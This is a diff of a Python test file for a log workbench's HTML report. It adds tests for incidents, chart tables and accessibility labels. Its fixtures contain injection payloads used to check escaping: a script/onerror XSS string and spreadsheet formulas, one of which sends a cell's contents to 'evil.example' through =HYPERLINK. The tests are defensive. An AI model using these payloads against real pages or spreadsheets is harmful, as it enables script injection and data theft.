@@ -17,14 +17,16 @@ import pytest
 
 from core import workbench
 from core.errors import WorkbenchError
-from core.report import Judgement, Message, Report, histogram, html_report, shown
+from core.report import Incident, Judgement, Message, Report, html_report
+from core.report.charts import histogram, spark
+from core.report.literal import shown
 from core.workbench import reports
 from tests.builders import HOSTILE_LINES, store_run
 
 HOSTILE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\"'&\x1b[31m\u202e"
 TAGS = {
     "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "dl", "div", "dt", "dd", "svg", "rect",
-    "line", "text", "table", "thead", "tbody", "tr", "th", "td", "br", "span", "pre",
+    "line", "text", "table", "details", "summary", "b", "thead", "tbody", "tr", "th", "td", "br", "span", "pre",
 }  # fmt: skip
 MESSAGE = Message(HOSTILE, 3, 0.9, HOSTILE, HOSTILE, HOSTILE, "2026-11-18 06:00:00", "2026-11-18 07:00:00")
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1", "plain = text"]
@@ -60,6 +62,8 @@ def hostile_report() -> Report:
         scores=[(0.1, 990), (0.5, 10)],
         timeline=[(HOSTILE, 10, 1), ("b", 10, 2)],
         timeline_title=HOSTILE,
+        incidents=[Incident(HOSTILE, 3, 2, HOSTILE, HOSTILE, HOSTILE, 0.9, 7, HOSTILE, [0, 3, 1], HOSTILE)],
+        n_incidents=5,
         messages=[replace(MESSAGE, first=HOSTILE)],
         n_messages=7,
         judgements=[Judgement(1, HOSTILE, 0.9, HOSTILE, HOSTILE, HOSTILE, HOSTILE)],
@@ -107,6 +111,27 @@ def test_the_histogram_parts_the_lines_at_the_threshold():
     assert bars == ["normal", "normal", "flagged", "flagged"]
     [svg] = [found for tag, found in page.tags if tag == "svg"]
     assert svg["aria-label"] == "Lines by score; 31 at or above the threshold 0.1120"
+
+
+def test_a_chart_is_told_as_a_table_too():
+    words = Page(histogram([(0.0, 5), (0.9, 1_000)], threshold=0.5)).words
+    assert words.endswith("As a tableScoreLines0.00 to 0.0250.90 to 0.921,000")
+    page = Page(spark([0, 400, 1]))
+    assert [found["class"] for tag, found in page.tags if tag == "rect"] == ["flagged"] * 2
+    assert page.tags[0][1]["aria-label"].endswith("most lines in part 2 of 3")
+    assert Page(html_report(hostile_report())).words.count("As a table") == 2
+
+
+def test_the_report_tells_the_incidents_and_how_they_were_judged(home: Path):
+    lines = [(f"session opened {no}", "session opened num", 0.1) for no in range(80)]
+    lines += [(f"disk sda{no} failed hard", "disk failed hard", 0.9) for no in range(3)]
+    store_run("r1", lines, name="auth.log")
+    workbench.set_verdict("r1", [81, 82, 83], "abnormal")
+    page = Page(workbench.report_html("r1"))
+    assert "All 1. An incident is flagged lines" in page.words
+    assert "10.90003" in page.words  # number, score, lines
+    assert "disk failed hard1 message · 3 judged abnormalline 81 disk sda0 failed hard" in page.words
+    assert [found for tag, found in page.tags if tag == "svg"][-1]["class"] == "spark"
 
 
 def test_the_report_tells_the_run_its_threshold_and_verdicts(home: Path, tmp_path: Path):
